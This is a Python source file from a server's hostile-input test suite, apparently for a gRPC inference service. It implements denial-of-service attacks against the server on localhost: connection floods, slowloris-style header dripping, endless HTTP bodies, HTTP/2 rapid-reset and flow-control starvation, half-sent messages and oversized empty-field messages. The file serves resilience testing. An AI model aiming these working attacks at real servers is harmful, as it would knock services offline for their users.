"""The attacks on a server that the tests of tests/hostile make. Each is a function that runs for some seconds. Run as a
program, this file executes one attack, so that the attack takes no time from the client that is measured beside it:

    python attacks.py NAME '{"grpc_port": ..., "http_port": ..., "pid": ..., "seconds": 10, ...}'

The program prints "started" when the attack has its full effect, and its counts as JSON when it ends. SIGTERM ends it.
It also ends, and sets the count "stopped_early" to 1, once the server's memory has grown by more than `most_growth`
bytes: the test has failed by then, and the machine should stay usable.
"""

from __future__ import annotations

import contextlib
import errno
import json
import math
import signal
import socket
import sys
import threading
import time
from collections.abc import Callable
from typing import Any

import http2
from attack_target import Counts, Target, started
from frame_floods import useless_bytes
from garbage import garbage
from http2 import Connection
from place_holders import held_places
from row_attacks import all_floods, bad_loads, signals

# ---- connections


def silent_connections(
    target: Target, number: int = 1300, addresses: int = 26, http: bool = False, greeting: bool = False
) -> Counts:
    """Opens connections from several addresses. They send nothing, or with `greeting` only HTTP/2's first frames. A
    connection that the server closes is opened again.
    """
    address = ("127.0.0.1", target.http_port if http else target.grpc_port)
    held: dict[int, socket.socket] = {}
    connected: set[int] = set()
    tried = opened = closed = most = 0
    begin = time.monotonic()
    is_started = False
    while not target.is_over():
        for i in range(number):
            if i not in held:
                held[i] = socket.socket()
                held[i].setblocking(False)
                held[i].bind((f"127.0.{32 if http else 16}.{i % addresses + 1}", 0))
                held[i].connect_ex(address)
                tried += 1
                if i % 4 == 0:
                    time.sleep(0.002)  # a burst would overflow the listener's backlog
                continue
            try:
                if i not in connected:
                    held[i].getpeername()
                    connected.add(i)
                    opened += 1
                    if greeting:
                        held[i].send(http2.PREFACE + http2.frame(http2.SETTINGS, 0, 0))
                if held[i].recv(1 << 12):
                    continue  # the server's SETTINGS
            except BlockingIOError:
                continue
            except OSError as error:
                if error.errno == errno.ENOTCONN and held[i].getsockopt(socket.SOL_SOCKET, socket.SO_ERROR) == 0:
                    continue  # The connection is still being established.
            closed += i in connected
            connected.discard(i)
            held.pop(i).close()
        most = max(most, len(connected))
        if not is_started and (len(connected) > 0.95 * number or time.monotonic() > begin + 5):
            started()
            is_started = True
        time.sleep(0.05)
    for one in held.values():
        one.close()
    return {"tried": tried, "opened": opened, "closed_by_server": closed, "most_at_once": most}


def dripping_http(target: Target, number: int = 40) -> Counts:
    """Opens HTTP connections that each send one byte of a header every half second. A connection that the server closes
    is opened again.
    """
    held: list[socket.socket | None] = [None] * number
    opened = dripped = closed = 0
    request = b"GET /metrics HTTP/1.1\r\nHost: voxserve\r\nX-Drip: "
    started()
    while not target.is_over():
        for i, one in enumerate(held):
            try:
                if one is None:
                    one = held[i] = socket.create_connection(
                        ("127.0.0.1", target.http_port), 1, source_address=(target.source, 0)
                    )
                    opened += 1
                    one.sendall(request)
                else:
                    one.sendall(b"x")
                    dripped += 1
            except OSError:
                closed += one is not None
                if one is not None:
                    one.close()
                held[i] = None
        time.sleep(0.5)
    for one in held:
        if one is not None:
            one.close()
    return {"opened": opened, "dripped_bytes": dripped, "closed_by_server": closed}


def endless_http(target: Target, kind: str = "chunks", number: int = 4) -> Counts:
    """Sends HTTP requests that never end. `kind` names the endless part: "chunks" of a body, the request "line", or a
    "header".
    """
    begin = {
        "chunks": b"POST /metrics HTTP/1.1\r\nHost: v\r\nTransfer-Encoding: chunked\r\n\r\n",
        "line": b"GET /",
        "header": b"GET /metrics HTTP/1.1\r\nHost: v\r\nX-Long: ",
    }[kind]
    piece = b"10000\r\n" + b"x" * 65536 + b"\r\n" if kind == "chunks" else b"x" * 65536
    sent = [0] * number
    closed = [0] * number

    def send(i: int) -> None:
        while not target.is_over():
            with contextlib.suppress(OSError):
                address = ("127.0.0.1", target.http_port)
                with socket.create_connection(address, 2, source_address=(target.source, 0)) as one:
                    one.sendall(begin)
                    while not target.is_over():
                        one.sendall(piece)
                        sent[i] += len(piece)
            closed[i] += 1
            time.sleep(0.01)

    started()
    _run_side_by_side(number, send)
    return {"sent_mib": round(sum(sent) / 2**20), "closed_by_server": sum(closed)}


# ---- calls


def headers_without_body(target: Target, number: int = 700_000, path: str = http2.INFER) -> Counts:
    """Opens calls that send headers and no body, over one connection at a time. The connection never acknowledges the
    server's SETTINGS, so it may ignore the limit on open streams. If the server closes the connection, another replaces
    it. Once all calls are open, the connection stays open.
    """
    block = http2.header_block(path)
    chunk = 500
    begun = connections = closed = ended = 0
    is_started = False
    while not target.is_over() and begun < number:
        try:
            with Connection(target.grpc_port, target.source, acknowledge=False) as connection:
                connections += 1
                while not target.is_over() and not connection.is_closed and begun < number:
                    frames = [http2.call_frames(s, block) for s in connection.streams(chunk)]
                    connection.send(b"".join(frames))
                    begun += chunk
                    if not is_started:
                        started()
                        is_started = True
                while not target.is_over() and not connection.is_closed:
                    time.sleep(0.05)
                closed += connection.is_closed
                ended += len(connection.ended)
        except OSError:
            closed += 1
            time.sleep(0.01)
    if not is_started:
        started()
    target.hold()
    return {"begun": begun, "connections": connections, "closed_by_server": closed, "ended": ended}


def rapid_reset(target: Target, number: int = 2, kind: str = "headers") -> Counts:
    """Opens and resets calls over `number` connections at a time. `kind` names the data sent before the reset:
    - "headers": only the headers.
    - "infer", "stream": a whole request, or a stream's configuration, and 10 ms for the server to begin it.
    - "check": a health request, which the server answers within these 10 ms.
    """
    from calls import infer_request, scan, stream_config

    path, message = {
        "headers": (http2.INFER, None),
        "infer": (http2.INFER, infer_request(scan(1))),
        "stream": (http2.INFER_STREAM, stream_config(policy=2)),
        "check": ("/grpc.health.v1.Health/Check", b""),
    }[kind]
    # Each connection has one batch of calls open at a time. All batches together stay below the server's default limits
    # for one client (1024 calls, 256 streams, 256 health calls), so that the server does not refuse calls for their
    # number.
    batch = {"headers": 200, "check": 25}.get(kind, 50)
    block = http2.header_block(path)
    reset = b"\x00\x00\x00\x08"
    begun = [0] * number
    opened = [0] * number
    closed = [0] * number

    def attack(i: int) -> None:
        while not target.is_over():
            try:
                with Connection(target.grpc_port, target.source) as connection:
                    opened[i] += 1
                    while not target.is_over() and not connection.is_closed:
                        streams = connection.streams(batch)
                        calls = [http2.call_frames(s, block, message, end=kind != "stream") for s in streams]
                        resets = [http2.frame(http2.RST_STREAM, 0, s, reset) for s in streams]
                        if message is None:
                            connection.send(b"".join(both for pair in zip(calls, resets, strict=True) for both in pair))
                        else:
                            connection.send(b"".join(calls))
                            time.sleep(0.01)
                            connection.send(b"".join(resets))
                        begun[i] += batch
                    closed[i] += connection.is_closed
            except OSError:
                closed[i] += 1
            time.sleep(0.01)

    started()
    _run_side_by_side(number, attack)
    return {"begun": sum(begun), "connections": sum(opened), "closed_by_server": sum(closed)}


def half_sent_bodies(
    target: Target,
    number: int = 96,
    connections: int = 8,
    announced: int = 64 << 20,
    sent: int = 62 << 20,
    stream: bool = False,
) -> Counts:
    """Opens calls (or frames of streams) that announce a message of a given size and send fewer bytes. All calls
    advance together, as far as the server's flow control allows. If the server closes a connection, another replaces
    it.
    """
    from calls import stream_config

    block = http2.header_block(http2.INFER_STREAM if stream else http2.INFER)
    share = number // connections
    piece = b"x" * (1 << 18)
    opened = [0] * connections
    begun = [0] * connections
    total = [0] * connections
    closed = [0] * connections

    def attack(i: int) -> None:
        while not target.is_over():
            with contextlib.suppress(OSError), Connection(target.grpc_port, target.source) as connection:
                opened[i] += 1
                left = dict.fromkeys(connection.streams(share), sent)
                for s in left:
                    message = stream_config(policy=2) if stream else None
                    connection.send(http2.call_frames(s, block, message, end=False))
                    connection.send_data(s, b"\0" + announced.to_bytes(4, "big"))
                    begun[i] += 1
                while not target.is_over() and not connection.is_closed:
                    for s in left:
                        size = connection.send_data(s, piece[: left[s]], 0.2)
                        left[s] -= size
                        total[i] += size
                    left = {s: rest for s, rest in left.items() if rest and s not in connection.ended}
                    if not left:
                        time.sleep(0.05)
                closed[i] += connection.is_closed
            time.sleep(0.05)

    started()
    _run_side_by_side(connections, attack)
    return {
        "begun": sum(begun),
        "sent_mib": round(sum(total) / 2**20),
        "connections": sum(opened),
        "closed_by_server": sum(closed),
    }


def unread_answers(target: Target, number: int = 4200, in_flight: int = 48) -> Counts:
    """Makes calls over one connection that never grants the server a byte of flow control, so no answer can be sent. At
    most `in_flight` calls wait for the headers of their answer, so the server refuses none because of a full queue. If
    the server closes the connection, another replaces it.
    """
    from calls import infer_request, scan

    block = http2.header_block(http2.INFER)
    request = infer_request(scan(1))
    begun = answered = unread = connections = closed = 0
    is_started = False
    while not target.is_over():
        try:
            with Connection(target.grpc_port, target.source, window=0) as connection:
                connections += 1
                begun_here = 0
                while not target.is_over() and not connection.is_closed and begun_here < number:
                    room = in_flight - (begun_here - len(connection.begun))
                    if room <= 0:
                        time.sleep(0.002)
                        continue
                    connection.send(b"".join(http2.call_frames(s, block, request) for s in connection.streams(room)))
                    begun_here += room
                    begun += room
                    unread = max(unread, len(connection.begun) - len(connection.ended))
                if not is_started:
                    started()
                    is_started = True
                while not target.is_over() and not connection.is_closed:
                    time.sleep(0.05)
                unread = max(unread, len(connection.begun) - len(connection.ended))
                answered += len(connection.begun)
                closed += connection.is_closed
        except OSError:
            closed += 1
            time.sleep(0.01)
    if not is_started:
        started()
    return {
        "begun": begun,
        "answered": answered,
        "most_unread": unread,
        "connections": connections,
        "closed_by_server": closed,
    }


def silent_streams(target: Target, number: int = 1024, connections: int = 8, again: bool = False) -> Counts:
    """Opens InferStream calls that send no configuration. again: whether to reopen streams that the server ends."""
    block = http2.header_block(http2.INFER_STREAM)
    share = number // connections
    held: list[Connection | None] = [None] * connections
    opened = ended = closed = 0
    is_started = False
    seconds_to_end = math.nan
    start = time.monotonic()
    while not target.is_over():
        for i, one in enumerate(held):
            try:
                if one is not None and one.is_closed:
                    closed += 1
                    ended += len(one.ended)
                    one.close()
                    held[i] = one = None
                if one is None and (again or not is_started):
                    one = held[i] = Connection(target.grpc_port, target.source)
                    one.send(b"".join(http2.call_frames(s, block) for s in one.streams(share)))
                    opened += share
                elif one is not None and again and one.ended:
                    count = len(one.ended)
                    one.ended.clear()
                    ended += count
                    one.send(b"".join(http2.call_frames(s, block) for s in one.streams(count)))
                    opened += count
            except OSError:
                held[i] = None
                closed += 1
        if not is_started:
            started()
            is_started = True
            start = time.monotonic()
        if math.isnan(seconds_to_end) and all(one is None or len(one.ended) >= share for one in held):
            seconds_to_end = time.monotonic() - start
        time.sleep(0.2)
    left = 0
    for one in held:
        if one is not None:
            ended += len(one.ended)
            left += share - min(share, len(one.ended)) if not again else 0
            one.close()
    return {
        "opened": opened,
        "ended_by_server": ended,
        "connections_closed": closed,
        "left": left,
        "seconds_to_end": seconds_to_end,
    }


# ---- messages


def empty_fields(target: Target, megabytes: int = 60) -> Counts:
    """Sends requests of `megabytes` MiB that consist of empty fields, one request after the other."""
    from calls import call
    from forwarder import Forwarder

    request = empty_fields_request(megabytes << 20)
    refused = 0
    started()
    with Forwarder(target.grpc_port, target.source) as forwarder:
        while not target.is_over():
            refused += not call(forwarder.address, request, 30).is_ok
            time.sleep(0.2)
    return {"refused": refused}


def empty_fields_request(num_bytes: int) -> bytes:
    """Returns an InferRequest whose cloud only has `fields {}`, two bytes each."""
    fields = b"\x22\x00" * (num_bytes // 2)
    return b"\x0a\x08minkunet\x1a" + varint(len(fields)) + fields


def varint(value: int) -> bytes:
    out = bytearray()
    while value > 127:
        out.append(value & 127 | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def calls_in_flight(target: Target, number: int = 64, num_points: int = 30_000) -> Counts:
    """Acts as one client that always has `number` calls in flight, each with a cloud of `num_points` points."""
    from calls import answer_of, channel, infer_request, scan, start_call
    from forwarder import Forwarder

    request = infer_request(scan(num_points))
    answered = refused = 0
    is_started = False
    with Forwarder(target.grpc_port, target.source) as forwarder, channel(forwarder.address) as to:
        calls: list[Any] = []
        while not target.is_over():
            for done in [c for c in calls if c.done()]:
                calls.remove(done)
                if answer_of(done.result).is_ok:
                    answered += 1
                else:
                    refused += 1
            calls += [start_call(to, request, 60) for _ in range(number - len(calls))]
            if not is_started and answered + refused > 0:
                started()
                is_started = True
            time.sleep(0.02)
        for one in calls:
            one.cancel()
    return {"answered": answered, "refused": refused}


def _run_side_by_side(number: int, function: Callable[[int], None]) -> None:
    threads = [threading.Thread(target=function, args=(i,), daemon=True) for i in range(number)]
    for thread in threads:
        thread.start()
    for thread in threads:
        while thread.is_alive():
            thread.join(0.1)  # A signal that came to another thread does not end a wait; its handler runs between waits.


ATTACKS: dict[str, Callable[..., Counts]] = {
    f.__name__: f
    for f in (
        silent_connections,
        dripping_http,
        endless_http,
        headers_without_body,
        rapid_reset,
        half_sent_bodies,
        unread_answers,
        silent_streams,
        empty_fields,
        calls_in_flight,
        garbage,
        useless_bytes,
        held_places,
        all_floods,
        bad_loads,
        signals,
    )
}


def main(name: str, text: str) -> None:
    options = json.loads(text)
    target = Target(**{k: options.pop(k) for k in list(options) if k in Target.__dataclass_fields__})
    signal.signal(signal.SIGTERM, target.stop)
    counts = ATTACKS[name](target, **options)
    print(json.dumps({**counts, "stopped_early": target.stopped_early}))


if __name__ == "__main__":
    main(*sys.argv[1:])
